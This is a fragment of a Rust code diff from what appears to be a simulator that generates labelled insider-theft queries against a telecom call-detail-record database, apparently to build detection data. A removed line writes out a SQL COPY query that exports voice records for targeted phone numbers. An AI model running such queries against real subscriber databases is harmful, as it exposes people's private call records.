+            tables.push(schema.sms);
+        }
+        for table in &tables {
+            let text = sql.theft(habits.theft, table, &written, &from_s, &until_s, false);
             self.push_query(
                 c.kit.wave,
                 tt,
@@ -1453,20 +1519,22 @@ impl Campaign {
                 msisdns,
                 table,
                 from,
+                match_on,
                 label.clone(),
             );
             tt += c.dice.range(20, 200) * SECOND;
         }
         if copy {
-            let text = format!("COPY (select * from cdr.voice_cdr where served_msisdn in ({list}) and start_time >= '{from_s}') TO STDOUT WITH CSV HEADER");
+            let text = sql.theft(habits.theft, schema.voice, &written, &from_s, &until_s, true);
             self.push_query(
                 c.kit.wave,
                 tt,
                 session,
-                Statement::select("cdr.voice_cdr", text, None, 0),
+                Statement::select(schema.voice, text, None, 0),
                 msisdns,
-                "cdr.voice_cdr",
+                schema.voice,
                 from,
+                match_on,
                 Label {
                     what: "targeted CDR export",
                     ..label.clone()
@@ -1492,6 +1560,7 @@ impl Campaign {
         msisdns: &[String],
         table: &'static str,
         from: i64,
+        match_on: MatchOn,
         label: Label,
     ) {
         self.queries.push(TheftQuery {
@@ -1500,6 +1569,7 @@ impl Campaign {
             tables: vec![table],
             from,
             executed: t,
+            match_on,
         });
         let query = self.queries.len() - 1;
         self.db_steps.push(DbStep {
@@ -1535,6 +1605,7 @@ impl Campaign {
                     st.rows = rows_of(*query);
                     session.run(sink, db, step.time, &st);
                 }
+                DbAction::Plain(statement) => session.run(sink, db, step.time, statement),
             }
         }
         sink.set_label(None);
